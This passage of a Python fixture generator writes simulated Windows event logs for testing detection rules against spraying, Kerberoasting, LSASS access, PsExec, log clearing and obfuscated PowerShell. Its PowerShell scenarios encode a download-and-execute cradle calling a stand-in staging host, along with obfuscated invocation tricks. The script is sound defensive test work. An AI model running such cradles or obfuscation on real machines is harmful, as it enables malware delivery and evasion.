"""How tests/data/rules_gridhunt/*.jsonl were written: evtx_dump-style JSON lines, one scenario per file.

The .jsonl files are the fixtures (tests/test_rules_gridhunt.py reads them, not this script). Edit a scenario
here and run `python tests/data/rules_gridhunt/make_fixtures.py` to rewrite them; then update EXPECTED.
"""

from __future__ import annotations

import base64
import json
from datetime import datetime, timedelta
from pathlib import Path

OUT = Path(__file__).resolve().parent
SEC = "Microsoft-Windows-Security-Auditing"
SYSMON = "Microsoft-Windows-Sysmon"
SYSMON_CH = "Microsoft-Windows-Sysmon/Operational"
PS_PROV = "Microsoft-Windows-PowerShell"
PS_CH = "Microsoft-Windows-PowerShell/Operational"
EVENTLOG = "Microsoft-Windows-Eventlog"
SCM = "Service Control Manager"
DOM = "S-1-5-21-3623811015-3361044348-30300820"
D = "corp.example"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
LSASS = "C:\\Windows\\system32\\lsass.exe"
PSEXEC = "C:\\Tools\\SysinternalsSuite\\PsExec.exe"


class File:
    def __init__(self, name: str, day: str = "2026-04-07") -> None:
        self.name, self.lines, self.rid = name, [], 1000
        self.t0 = datetime.fromisoformat(f"{day}T00:00:00")

    def at(self, hms: str) -> datetime:
        h, m, s = hms.split(":")
        return self.t0 + timedelta(hours=int(h), minutes=int(m), seconds=float(s))

    def add(self, hms, eid, host, data, provider=SEC, channel="Security", kind="EventData", day_offset=0):
        self.rid += 1
        ts = self.at(hms) + timedelta(days=day_offset)
        system = {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": eid,
            "Version": 0,
            "Level": 0 if provider == SEC else 4,
            "Task": 0,
            "Opcode": 0,
            "Keywords": "0x8020000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": self.rid,
            "Channel": channel,
            "Computer": f"{host}.{D}",
        }
        self.lines.append(
            json.dumps({"Event": {"System": system, kind: data}}, ensure_ascii=False, separators=(",", ":"))
        )

    def write(self) -> None:
        (OUT / f"{self.name}.jsonl").write_text("\n".join(self.lines) + "\n", encoding="utf-8")


def subj(user="-", sid="S-1-5-18"):
    return {"SubjectUserSid": sid, "SubjectUserName": user, "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7"}


def f4625(f, hms, host, user, ip, ws, sub="0xc000006a", lt=3, **kw):
    f.add(
        hms,
        4625,
        host,
        {
            **subj(),
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": user,
            "TargetDomainName": "CORP",
            "Status": "0xc000006d",
            "FailureReason": "%%2313",
            "SubStatus": sub,
            "LogonType": lt,
            "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM",
            "WorkstationName": ws,
            "IpAddress": ip,
            "IpPort": "-" if ip == "-" else "50123",
        },
        **kw,
    )


def f4624(f, hms, host, user, sid, ip, ws, lt=3, **kw):
    f.add(
        hms,
        4624,
        host,
        {
            **subj(),
            "TargetUserSid": sid,
            "TargetUserName": user,
            "TargetDomainName": "CORP",
            "LogonType": lt,
            "AuthenticationPackageName": "Kerberos",
            "WorkstationName": ws,
            "IpAddress": ip,
            "IpPort": "0",
        },
        **kw,
    )


def f4740(f, hms, host, user, caller):
    f.add(
        hms,
        4740,
        host,
        {
            "TargetUserName": user,
            "TargetDomainName": caller,
            "TargetSid": f"{DOM}-{1100 + sum(map(ord, user))}",
            **subj(f"{host.upper()}$", "S-1-5-18"),
        },
    )


def f4769(f, hms, requester, service, etype, status="0x0", ip="::ffff:10.20.30.60"):
    f.add(
        hms,
        4769,
        "dc01",
        {
            "TargetUserName": f"{requester}@CORP.EXAMPLE",
            "TargetDomainName": "CORP.EXAMPLE",
            "ServiceName": service,
            "ServiceSid": f"{DOM}-{1200 + len(service)}",
            "TicketOptions": "0x40810000",
            "TicketEncryptionType": etype,
            "IpAddress": ip,
            "IpPort": "51000",
            "Status": status,
            "LogonGuid": "00000000-0000-0000-0000-000000000000",
            "TransmittedServices": "-",
        },
    )


def f4768(f, hms, user, ip, preauth="2", etype="0x12", status="0x0"):
    f.add(
        hms,
        4768,
        "dc01",
        {
            "TargetUserName": user,
            "TargetDomainName": "CORP",
            "TargetSid": f"{DOM}-{1300 + len(user)}",
            "ServiceName": "krbtgt",
            "ServiceSid": f"{DOM}-502",
            "TicketOptions": "0x40810010",
            "Status": status,
            "TicketEncryptionType": etype,
            "PreAuthType": preauth,
            "IpAddress": ip,
            "IpPort": "50200",
            "CertIssuerName": "",
            "CertSerialNumber": "",
            "CertThumbprint": "",
        },
    )


def f4720(f, hms, admin, new, rid, day_offset=0):
    f.add(
        hms,
        4720,
        "dc01",
        {
            "TargetUserName": new,
            "TargetDomainName": "CORP",
            "TargetSid": f"{DOM}-{rid}",
            **subj(admin, f"{DOM}-1105"),
            "PrivilegeList": "-",
            "SamAccountName": new,
            "DisplayName": new,
            "UserPrincipalName": f"{new}@{D}",
            "PrimaryGroupId": "513",
        },
        day_offset=day_offset,
    )


def fgroup(f, hms, eid, admin, member_rid, member_cn, group, group_sid, host="dc01", day_offset=0):
    f.add(
        hms,
        eid,
        host,
        {
            "MemberName": f"CN={member_cn},OU=Users,OU=CORP,DC=corp,DC=example",
            "MemberSid": f"{DOM}-{member_rid}",
            "TargetUserName": group,
            "TargetDomainName": "Builtin" if group_sid.startswith("S-1-5-32") else "CORP",
            "TargetSid": group_sid,
            **subj(admin, f"{DOM}-1105"),
            "PrivilegeList": "-",
        },
        day_offset=day_offset,
    )


def f5136(f, hms, who, dn, cls, attr, value, added=True, eid=5136):
    f.add(
        hms,
        eid,
        "dc01",
        {
            "OpCorrelationID": "{8f3a1c52-7d0e-4b8a-9c11-2d6e5f0a7b34}",
            "AppCorrelationID": "-",
            **subj(who, f"{DOM}-{1100 + len(who)}"),
            "DSName": D,
            "DSType": "%%14676",
            "ObjectDN": dn,
            "ObjectGUID": "{d41e7b9a-3c55-4e0f-8a21-6b9c0e4f1d77}",
            "ObjectClass": cls,
            "AttributeLDAPDisplayName": attr,
            "AttributeSyntaxOID": "2.5.5.12",
            "AttributeValue": value,
            "OperationType": "%%14674" if added else "%%14675",
        },
    )


def f5137(f, hms, who, dn, cls, eid=5137):
    f.add(
        hms,
        eid,
        "dc01",
        {
            "OpCorrelationID": "{0a1b2c3d-0000-4000-8000-000000000001}",
            "AppCorrelationID": "-",
            **subj(who, f"{DOM}-{1100 + len(who)}"),
            "DSName": D,
            "DSType": "%%14676",
            "ObjectDN": dn,
            "ObjectGUID": "{0a1b2c3d-0000-4000-8000-000000000002}",
            "ObjectClass": cls,
        },
    )


def s10(f, hms, host, src, access, trace, target=LSASS):
    f.add(
        hms,
        10,
        host,
        {
            "RuleName": "-",
            "UtcTime": "",
            "SourceProcessId": 4412,
            "SourceThreadId": 4416,
            "SourceImage": src,
            "TargetProcessId": 712,
            "TargetImage": target,
            "GrantedAccess": access,
            "CallTrace": trace,
            "SourceUser": "NT AUTHORITY\\SYSTEM",
            "TargetUser": "NT AUTHORITY\\SYSTEM",
        },
        provider=SYSMON,
        channel=SYSMON_CH,
    )


def s1(f, hms, host, image, cmd, parent, orig="", user="CORP\\jdoe"):
    f.add(
        hms,
        1,
        host,
        {
            "RuleName": "-",
            "UtcTime": "",
            "ProcessId": 6120,
            "Image": image,
            "OriginalFileName": orig,
            "CommandLine": cmd,
            "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": user,
            "IntegrityLevel": "High",
            "ParentProcessId": 5012,
            "ParentImage": parent,
            "ParentCommandLine": f'"{parent}"',
        },
        provider=SYSMON,
        channel=SYSMON_CH,
    )


def e4688(f, hms, host, image, cmd, parent, user="jdoe"):
    f.add(
        hms,
        4688,
        host,
        {
            **subj(user, f"{DOM}-1190"),
            "NewProcessId": "0x17e8",
            "NewProcessName": image,
            "TokenElevationType": "%%1937",
            "ProcessId": "0x1394",
            "CommandLine": cmd,
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "-",
            "TargetDomainName": "-",
            "TargetLogonId": "0x0",
            "ParentProcessName": parent,
            "MandatoryLabel": "S-1-16-12288",
        },
    )


def p4104(f, hms, host, text):
    f.add(
        hms,
        4104,
        host,
        {
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": text,
            "ScriptBlockId": "3f1c2a9e-2b5d-4c1e-9a77-0b8e5d1c2f01",
            "Path": "",
        },
        provider=PS_PROV,
        channel=PS_CH,
    )


def f5145(f, hms, host, user, ip, share, target, access="0x2"):
    f.add(
        hms,
        5145,
        host,
        {
            **subj(user, f"{DOM}-9123"),
            "ObjectType": "File",
            "IpAddress": ip,
            "IpPort": "50400",
            "ShareName": share,
            "ShareLocalPath": "\\??\\C:\\Windows" if "ADMIN" in share else "",
            "RelativeTargetName": target,
            "AccessMask": access,
            "AccessList": "%%4417",
            "AccessReason": "-",
        },
    )


def f7045(f, hms, host, name, image, provider=SCM):
    f.add(
        hms,
        {"#attributes": {"Qualifiers": 16384}, "#text": 7045},
        host,
        {
            "ServiceName": name,
            "ImagePath": image,
            "ServiceType": "user mode service",
            "StartType": "demand start",
            "AccountName": "LocalSystem",
        },
        provider=provider,
        channel="System",
    )


def f1102(f, hms, host, user, provider=EVENTLOG, day_offset=0):
    f.add(
        hms,
        1102,
        host,
        {
            "LogFileCleared": {
                "SubjectUserSid": f"{DOM}-9123",
                "SubjectUserName": user,
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x5a1f3",
            }
        },
        provider=provider,
        channel="Security",
        kind="UserData",
        day_offset=day_offset,
    )


def f104(f, hms, host, user, cleared="System", provider=EVENTLOG, day_offset=0):
    f.add(
        hms,
        104,
        host,
        {
            "LogFileCleared": {
                "SubjectUserName": user,
                "SubjectDomainName": "CORP",
                "Channel": cleared,
                "BackupPath": "",
            }
        },
        provider=provider,
        channel="System",
        kind="UserData",
        day_offset=day_offset,
    )


def b64(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


USERS = [
    "abaker",
    "bclark",
    "cdavis",
    "devans",
    "efoster",
    "fgreen",
    "ghall",
    "hirwin",
    "ijones",
    "jking",
    "klewis",
    "lmoore",
    "mnash",
]


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for p in OUT.glob("*.jsonl"):
        p.unlink()

    # -- spraying ---------------------------------------------------------------------------------
    f = File("logon_spray_pos")
    for i, u in enumerate(USERS[:12]):  # 12 accounts from one source in under 6 minutes
        f4625(
            f,
            f"02:10:{i * 29 % 60:02d}" if i < 2 else f"02:1{i // 2}:{i * 7 % 60:02d}",
            "dc01",
            u,
            "10.20.30.40",
            "KALI",
            "0xc000006a" if i % 3 else "0xc0000064",
        )
    f4625(f, "03:00:00", "dc01", USERS[12], "10.20.30.40", "KALI")  # 45 minutes later: outside the window
    f4625(f, "02:12:00", "dc01", "jdoe", "10.20.5.23", "WS-0231")  # someone else's typo
    f.write()

    f = File("logon_spray_neg")  # the shared jump host: nine people mistype once each within half an hour
    for i, u in enumerate(USERS[:9]):
        f4625(f, f"08:{10 + 3 * i:02d}:05", "jump01", u, "10.20.5.15", "JUMP01", lt=10)
        f4624(f, f"08:{10 + 3 * i:02d}:20", "jump01", u, f"{DOM}-{1200 + i}", "10.20.5.15", "JUMP01", lt=10)
    for i, u in enumerate(USERS[:12]):  # failures that name no source at all: never grouped together
        f4625(f, f"09:00:{i * 4:02d}", "app01", u, "-", "-", lt=8)
    f.write()

    # -- brute force ------------------------------------------------------------------------------
    f = File("brute_force_pos")
    for i in range(12):  # 12 guesses at one account in under 4 minutes
        f4625(f, f"01:4{i // 4}:{(i % 4) * 15:02d}", "fs01", "svc_backup", "10.20.30.41", "WS-ATT")
    f.write()

    f = File("brute_force_neg")
    for h in range(7, 19):  # the scanner's stale password: one failure an hour
        f4625(f, f"{h:02d}:03:11", "fs01", "scan2folder", "10.20.9.9", "MFP-3F")
    for i in range(9):  # nine quick failures: one short of the threshold
        f4625(f, f"10:2{i // 5}:{(i % 5) * 10:02d}", "fs01", "kmorris", "10.20.5.40", "WS-0340")
    f.write()

    # -- failures then success --------------------------------------------------------------------
    f = File("failures_then_success_pos")
    for i in range(6):
        f4625(f, f"03:0{i // 3}:{(i % 3) * 20:02d}", "dc01", "ops.admin", "10.20.30.42", "WS-17")
    f4624(f, "03:05:00", "dc01", "ops.admin", f"{DOM}-1150", "10.20.30.42", "WS-17")
    f.write()

    f = File("failures_then_success_neg")
    for j, u in enumerate(["adm.jones", "adm.patel", "adm.smith"]):  # admins with a typo or two
        for k in range(2):
            f4625(f, f"08:{10 * j:02d}:{10 * k:02d}", "dc01", u, f"10.20.4.{10 + j}", f"ADM-WS0{j}")
        f4624(f, f"08:{10 * j:02d}:40", "dc01", u, f"{DOM}-{1160 + j}", f"10.20.4.{10 + j}", f"ADM-WS0{j}")
    for i in range(6):  # a locked-out user who only gets in two hours later, after a reset
        f4625(f, f"11:00:{i * 5:02d}", "dc01", "lmoore", "10.20.5.50", "WS-0350")
    f4624(f, "13:05:00", "dc01", "lmoore", f"{DOM}-1170", "10.20.5.50", "WS-0350")
    for i in range(6):  # a machine account's failures then success (ends in $): not a user logon
        f4625(f, f"14:00:{i * 5:02d}", "dc01", "WS-0350$", "10.20.5.50", "WS-0350")
    f4624(f, "14:01:00", "dc01", "WS-0350$", f"{DOM}-3350", "10.20.5.50", "WS-0350")
    f.write()

    # -- lockouts ---------------------------------------------------------------------------------
    f = File("lockout_pos")
    for i, u in enumerate(USERS[:6]):  # six accounts locked out in eight minutes, on two DCs
        f4740(f, f"02:2{i // 2 + 1}:{(i % 2) * 30:02d}", "dc01" if i % 2 else "dc02", u, "KALI")
    f.write()

    f = File("lockout_neg")
    for i in range(6):  # one phone with an old password, locked out again and again
        f4740(f, f"09:{i * 2:02d}:00", "dc01", "mnash", "MNASH-PHONE")
    for i, u in enumerate(USERS[:3]):  # and three other people that morning
        f4740(f, f"09:0{i * 3 + 1}:30", "dc02", u, f"WS-00{i}")
    f.write()

    # -- Kerberoasting ----------------------------------------------------------------------------
    services = ["svc_sql", "svc_backup", "svc_web", "svc_sccm", "svc_historian", "svc_ami"]
    f = File("kerberoast_pos")
    for i, s in enumerate(services):
        f4769(f, f"15:05:{i + 1:02d}", "dmiller", s, "0x17")
    f4769(f, "15:05:08", "dmiller", "FS01$", "0x17")  # computer account service: not roastable
    f4769(f, "15:05:09", "dmiller", "krbtgt", "0x17")
    f.write()

    f = File("kerberoast_neg")
    for i, s in enumerate(services):  # the same requests, but AES tickets
        f4769(f, f"09:00:{i + 1:02d}", "dmiller", s, "0x12")
    for i in range(8):  # the legacy reporting box: RC4 for its one service, all day
        f4769(f, f"{8 + i:02d}:00:00", "SCCM01$", "svc_web", "0x17", ip="::ffff:10.20.1.30")
    for i in range(6):  # RC4 tickets for computer services only
        f4769(f, f"10:00:{i + 1:02d}", "jdoe", f"SRV0{i}$", "0x17")
    for i, s in enumerate(services):  # refused RC4 requests (etype not supported): no ticket issued
        f4769(f, f"11:00:{i + 1:02d}", "kmorris", s, "0x17", status="0xe")
    f.write()

    # -- AS-REP roasting --------------------------------------------------------------------------
    f = File("asrep_pos")
    for i, u in enumerate(["legacy_unix", "svc_printer", "old_app"]):
        f4768(f, f"15:20:{10 + i:02d}", u, "::ffff:10.20.30.43", preauth="0", etype="0x17")
    f.write()

    f = File("asrep_neg")
    for i, u in enumerate(USERS[:8]):  # ordinary logons from one client: pre-authenticated, AES
        f4768(f, f"08:00:{i * 5:02d}", u, "::ffff:10.20.5.15")
    f4768(f, "09:00:00", "legacy_unix", "::ffff:10.20.8.8", preauth="0", etype="0x17")  # the old box, its one account
    f4768(f, "09:05:00", "legacy_unix", "::ffff:10.20.8.8", preauth="0", etype="0x17")
    f4768(f, "10:00:00", "svc_printer", "::ffff:10.20.8.9", preauth="0", etype="0x12")  # no pre-auth, but AES
    f4768(f, "10:00:05", "old_app", "::ffff:10.20.8.9", preauth="0", etype="0x12")
    f4768(f, "11:00:00", "KIOSK01$", "::ffff:10.20.8.10", preauth="0", etype="0x17")  # machine accounts
    f4768(f, "11:00:05", "KIOSK02$", "::ffff:10.20.8.10", preauth="0", etype="0x17")
    f4768(f, "12:00:00", "ghost1", "::ffff:10.20.8.11", preauth="-", etype="0xffffffff", status="0x6")  # unknown
    f4768(f, "12:00:05", "ghost2", "::ffff:10.20.8.11", preauth="-", etype="0xffffffff", status="0x6")
    f.write()

    # -- privileged groups ------------------------------------------------------------------------
    f = File("privileged_pos")
    f4720(f, "03:12:00", "svc_sql", "adm-support7", 9123)
    fgroup(f, "03:12:30", 4728, "svc_sql", 9123, "adm-support7", "Domain Admins", f"{DOM}-512")
    fgroup(f, "03:12:45", 4756, "svc_sql", 9123, "adm-support7", "Enterprise Admins", f"{DOM}-519")
    f.write()

    f = File("privileged_neg")
    f4720(f, "10:02:00", "adm.jones", "treed12", 5212)  # a joiner and their department groups
    fgroup(f, "10:02:20", 4728, "adm.jones", 5212, "Taylor Reed", "GG-Billing", f"{DOM}-1405")
    fgroup(f, "10:02:25", 4756, "adm.jones", 5212, "Taylor Reed", "UG-AllStaff", f"{DOM}-1399")
    fgroup(f, "11:30:00", 4732, "adm.patel", 1188, "Jane Doe", "Remote Desktop Users", "S-1-5-32-555", host="fs01")
    fgroup(f, "13:00:00", 4728, "adm.patel", 1160, "Ann Baker", "SCADA Administrators", f"{DOM}-1501")
    fgroup(f, "13:05:00", 4728, "adm.patel", 1161, "Bob Clark", "Backup Operators Team", f"{DOM}-1502")
    f.write()

    f = File("privileged_slow_or_existing")
    fgroup(f, "10:00:00", 4728, "adm.jones", 1133, "Carl Davis", "Domain Admins", f"{DOM}-512")  # existing staff
    f4720(f, "11:00:00", "adm.jones", "svc_newapp", 5300)  # created, then made admin three hours later
    fgroup(f, "14:00:00", 4732, "adm.jones", 5300, "svc_newapp", "Administrators", "S-1-5-32-544")
    f.write()

    # -- GPO --------------------------------------------------------------------------------------
    ddp = "CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=corp,DC=example"
    new_gpo = "CN={7C1E2B3A-5D4F-4A6B-9C8D-1E2F3A4B5C6D},CN=Policies,CN=System,DC=corp,DC=example"
    ou = "OU=Servers,DC=corp,DC=example"
    tasks = (
        "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
        "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
    )
    f = File("gpo_pos")
    f4720(f, "03:12:00", "svc_sql", "adm-support7", 9123)
    f5136(f, "03:25:00", "adm-support7", ddp, "groupPolicyContainer", "gPCMachineExtensionNames", "[]", added=False)
    f5136(f, "03:25:00", "adm-support7", ddp, "groupPolicyContainer", "gPCMachineExtensionNames", tasks)
    f5136(f, "03:25:01", "adm-support7", ddp, "groupPolicyContainer", "versionNumber", "131075")
    f.write()

    f = File("gpo_existing_admin")  # the directory team's planned work: new GPO, linked, given a CSE
    f5137(f, "14:00:00", "dirsvc.admin", new_gpo, "groupPolicyContainer")
    f5136(f, "14:02:00", "dirsvc.admin", ou, "organizationalUnit", "gPLink", f"[LDAP://{new_gpo};0]")
    f5136(
        f,
        "14:03:00",
        "dirsvc.admin",
        new_gpo,
        "groupPolicyContainer",
        "gPCUserExtensionNames",
        "[{35378EAC-683F-11D2-A89A-00C04FBBCFA2}{D02B1F73-3407-48AE-BA88-E8213C6761F1}]",
    )
    f4720(f, "15:00:00", "dirsvc.admin", "ebrown22", 5222)  # a joiner created the same day ...
    f5136(f, "15:30:00", "ebrown22", ddp, "groupPolicyContainer", "versionNumber", "131076")  # ... only edits
    f.write()

    f = File("gpo_neg")
    dcp = "CN={6AC1786C-016F-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=corp,DC=example"
    f5136(f, "20:15:00", "dirsvc.admin", dcp, "groupPolicyContainer", "versionNumber", "65538", added=False)
    f5136(f, "20:15:01", "dirsvc.admin", dcp, "groupPolicyContainer", "versionNumber", "65539")  # approved edit
    f5136(f, "10:00:00", "adm.patel", "CN=Jane Doe,OU=Users,DC=corp,DC=example", "user", "description", "Billing")
    f5137(f, "10:10:00", "adm.patel", "CN=Print Ops,OU=Groups,DC=corp,DC=example", "group")  # not a GPO
    f5136(f, "10:20:00", "dirsvc.admin", ou, "organizationalUnit", "gPLink", f"[LDAP://{new_gpo};0]", added=False)
    f.write()

    # -- LSASS ------------------------------------------------------------------------------------
    clean = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e"
    f = File("lsass_pos")
    s10(f, "03:38:00", "fs01", "C:\\Windows\\Temp\\dbgsvc.exe", "0x1010", clean + "|UNKNOWN(00007FF6A1B2C3D4)")
    s10(
        f,
        "03:40:00",
        "fs01",
        "C:\\Windows\\System32\\rundll32.exe",
        "0x1fffff",
        clean + "|C:\\Windows\\System32\\comsvcs.dll+3a5c1",
    )
    s10(f, "03:41:00", "fs01", "C:\\Program Files\\Vendor\\agent.exe", "0x1410", clean + "|UNKNOWN(000001D2C4A1F0B7)")
    s10(f, "03:42:00", "fs01", "C:\\Users\\jdoe\\AppData\\Local\\Temp\\x.exe", "0x1438", clean)
    f.write()

    f = File("lsass_neg")
    s10(
        f,
        "02:00:00",
        "fs01",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
        "0x1000",
        clean,
    )  # monitoring asks for limited query only
    s10(
        f,
        "03:00:00",
        "fs01",
        "C:\\Program Files\\SecureAV\\avagent.exe",
        "0x1010",
        clean + "|C:\\Program Files\\SecureAV\\avscan.dll+4a1f2",
    )  # AV reads memory, from Program Files, clean stack
    s10(f, "04:00:00", "fs01", "C:\\Windows\\Temp\\helper.exe", "0x1000", clean)  # odd folder, harmless mask
    s10(
        f,
        "05:00:00",
        "fs01",
        "C:\\Windows\\Temp\\dbgsvc.exe",
        "0x1fffff",
        clean + "|UNKNOWN(00007FF6A1B2C3D4)",
        target="C:\\Windows\\System32\\notepad.exe",
    )  # not LSASS
    s10(f, "06:00:00", "fs01", "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "0x1410", clean)
    f.write()

    # -- PsExec -----------------------------------------------------------------------------------
    f = File("psexec_pos")
    c1 = 'PsExec.exe \\\\fs01 -accepteula -s cmd /c "C:\\Windows\\Temp\\dbgsvc.exe"'
    c2 = 'PsExec.exe \\\\sql01 -accepteula -s cmd /c "whoami & hostname"'
    s1(f, "03:35:00", "ws17", PSEXEC, c1, CMD, "psexec.c", "CORP\\adm-support7")
    e4688(f, "03:35:00.2", "ws17", PSEXEC, c1, CMD, "adm-support7")
    f5145(f, "03:35:00.5", "fs01", "adm-support7", "10.20.30.50", "\\\\*\\ADMIN$", "PSEXESVC.exe")
    for pipe in ("stdin", "stdout", "stderr"):
        f5145(f, "03:35:01", "fs01", "adm-support7", "10.20.30.50", "\\\\*\\IPC$", f"PSEXESVC-WS17-7184-{pipe}")
    f7045(f, "03:35:00.9", "fs01", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    s1(f, "03:50:00", "ws17", PSEXEC, c2, CMD, "psexec.c", "CORP\\adm-support7")
    f5145(f, "03:50:00.5", "sql01", "adm-support7", "10.20.30.50", "\\\\*\\ADMIN$", "PSEXESVC.exe")
    f7045(f, "03:50:00.9", "sql01", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    f.write()

    f = File("psexec_neg")
    c3 = 'PsExec.exe \\\\print01 -accepteula -s cmd /c "net stop spooler && net start spooler"'
    s1(f, "10:00:00", "adm-ws01", PSEXEC, c3, PS, "psexec.c", "CORP\\adm.jones")
    e4688(f, "10:00:00.2", "adm-ws01", PSEXEC, c3, PS, "adm.jones")  # the 4688 copy of the same run
    f5145(f, "10:00:00.5", "print01", "adm.jones", "10.20.4.10", "\\\\*\\ADMIN$", "PSEXESVC.exe")
    for pipe in ("stdin", "stdout", "stderr"):
        f5145(f, "10:00:01", "print01", "adm.jones", "10.20.4.10", "\\\\*\\IPC$", f"PSEXESVC-ADM-WS01-912-{pipe}")
    f7045(f, "10:00:00.9", "print01", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    # the same admin an hour later on another server: two separate jobs, not a fan-out
    c4 = 'PsExec.exe \\\\wsus01 -accepteula -s cmd /c "wuauclt /detectnow"'
    s1(f, "11:05:00", "adm-ws01", PSEXEC, c4, PS, "psexec.c", "CORP\\adm.jones")
    f5145(f, "11:05:00.5", "wsus01", "adm.jones", "10.20.4.10", "\\\\*\\ADMIN$", "PSEXESVC.exe")
    f7045(f, "11:05:00.9", "wsus01", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    # ordinary admin-share traffic to two hosts at once, and PsExec help without -accepteula
    f5145(f, "12:00:00", "fs01", "adm.jones", "10.20.4.10", "\\\\*\\ADMIN$", "Temp\\patch.msi")
    f5145(f, "12:00:10", "fs02", "adm.jones", "10.20.4.10", "\\\\*\\ADMIN$", "Temp\\patch.msi")
    f5145(f, "12:00:20", "fs02", "adm.jones", "10.20.4.10", "\\\\*\\IPC$", "srvsvc")
    s1(f, "12:10:00", "adm-ws01", PSEXEC, "PsExec.exe -h", PS, "psexec.c", "CORP\\adm.jones")
    s1(f, "12:10:30", "adm-ws01", PSEXEC, "PsExec.exe -?", PS, "psexec.c", "CORP\\adm.jones")
    s1(
        f,
        "12:11:00",
        "adm-ws01",
        "C:\\Tools\\SysinternalsSuite\\procdump.exe",
        "procdump -accepteula -ma 4411",
        PS,
        "procdump",
        "CORP\\adm.jones",
    )
    f7045(f, "12:20:00", "fs02", "SecureAV Update Helper", '"C:\\Program Files\\SecureAV\\avupdate.exe" -service')
    f.write()

    # -- log clearing -----------------------------------------------------------------------------
    f = File("log_cleared_after_psexec_pos")
    f7045(f, "03:35:00.9", "fs01", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    f1102(f, "04:15:00", "fs01", "adm-support7")
    f104(f, "04:15:03", "fs01", "adm-support7")
    f.write()

    f = File("log_clearing_sweep_pos")
    f1102(f, "04:15:00", "fs01", "adm-support7")
    f1102(f, "04:40:00", "sql01", "adm-support7")
    f104(f, "04:40:02", "sql01", "adm-support7")
    f.write()

    f = File("log_clearing_neg")
    f1102(f, "10:30:00", "lab01", "adm.patel")  # the lab rebuild, with a ticket
    f104(f, "10:31:00", "lab01", "adm.patel")
    f104(f, "10:40:00", "lab02", "adm.patel", provider="Microsoft-Windows-Kernel-General")  # not a log clear
    f1102(f, "11:50:00", "lab03", "adm.patel")  # the same admin, over an hour later
    f7045(f, "09:00:00", "srv02", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")  # PsExec'd into ...
    f1102(f, "09:00:00", "srv02", "adm.jones", day_offset=1)  # ... and its log cleared the next day
    f7045(f, "13:00:00", "srv03", "SecureAV Update Helper", '"C:\\Program Files\\SecureAV\\avupdate.exe" -service')
    f1102(f, "13:10:00", "srv03", "adm.jones")  # another service, then a clear: not PsExec
    f.write()

    # -- PowerShell -------------------------------------------------------------------------------
    stage = "$u='http://cdn.vendor-support.example/api/v2/stage';IEX (New-Object Net.WebClient).DownloadString($u)"
    f = File("powershell_pos")
    cmd = f"powershell.exe -nop -w hidden -enc {b64(stage)}"
    s1(f, "14:22:14", "ws17", PS, cmd, WORD, "PowerShell.EXE")
    e4688(f, "14:22:14.2", "ws17", PS, cmd, WORD)
    s1(
        f,
        "14:30:00",
        "ws17",
        "C:\\Users\\jdoe\\AppData\\Local\\Temp\\ps.exe",
        f'ps.exe /EncodedCommand "{b64("Get-Process")}"',
        CMD,
        "PowerShell.EXE",
    )  # renamed copy, quoted blob
    s1(f, "14:31:00", "ws17", PS, f"powershell \u2013ec {b64('whoami /all')}", CMD, "PowerShell.EXE")  # en dash
    p4104(f, "14:22:15", "ws17", stage)
    p4104(
        f,
        "14:40:00",
        "ws17",
        "$b='SQBFAFgAIAAoACcAdwBoAG8AYQBtAGkAJwApAA==';"
        "$s=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)); Invoke-Expression $s",
    )
    s1(f, "14:50:00", "ws17", CMD, 'cmd.exe /c "p^o^w^e^r^s^h^e^l^l -nop -c calc"', WORD, "Cmd.Exe")
    s1(
        f,
        "14:51:00",
        "ws17",
        PS,
        'powershell.exe -nop -c "i`e`x (gc C:\\Users\\Public\\a.txt -Raw)"',
        CMD,
        "PowerShell.EXE",
    )
    s1(f, "14:52:00", "ws17", PS, "powershell.exe -c \"&('I`nv`oke-Ex'+'pression') 'calc'\"", CMD, "PowerShell.EXE")
    f.write()

    f = File("powershell_neg")
    s1(
        f,
        "09:00:00",
        "ws17",
        PS,
        f'"{PS}" -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1',
        "C:\\Windows\\explorer.exe",
        "PowerShell.EXE",
    )
    s1(f, "09:01:00", "ws17", PS, f'"{PS}" -ep bypass -c "Get-Service Spooler"', CMD, "PowerShell.EXE")
    sccm = b64("Get-CimInstance -ClassName Win32_InstalledWin32Program | ConvertTo-Json -Compress")
    s1(
        f,
        "09:02:00",
        "ws17",
        PS,
        f'"{PS}" -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {sccm}',
        "C:\\Windows\\CCM\\CcmExec.exe",
        "PowerShell.EXE",
        "NT AUTHORITY\\SYSTEM",
    )
    e4688(
        f,
        "09:02:00.3",
        "ws17",
        PS,
        f'"{PS}" -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {sccm}',
